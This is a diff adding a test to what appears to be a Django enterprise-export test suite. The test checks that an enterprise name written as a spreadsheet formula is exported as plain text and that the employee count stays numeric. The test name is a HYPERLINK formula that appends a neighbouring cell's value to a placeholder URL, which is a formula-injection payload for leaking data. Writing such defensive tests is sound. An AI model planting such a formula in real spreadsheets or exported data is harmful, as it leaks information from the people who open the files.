@@ -199,6 +199,17 @@ class EnterpriseExportTests(PersonaTestCase):
         self.assertNotIn("13800001234", repr(rows))
         self.assertEqual(rows[0][1], Enterprise.objects.get(name=rows[0][0]).credit_code)
 
+    def test_it_exports_a_name_that_looks_like_a_formula_as_text(self):
+        name = '=HYPERLINK("http://x/?"&B2,"点击")'
+        make_enterprise(self.home_region, name, employees=37)
+        self.login(self.district)
+        sheet = load_workbook(BytesIO(self.client.get(EXPORT).content)).active
+        row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)
+
+        self.assertEqual(row[0].data_type, "s")
+        employees = row[4]  # the fifth column
+        self.assertEqual((employees.data_type, employees.value), ("n", 37))
+
     def test_it_exports_only_the_filtered_rows(self):
         make_enterprise(self.home_region, "渝北软件公司", industry_division="65")
         _header, *rows = self.rows(self.city, "?division=65")
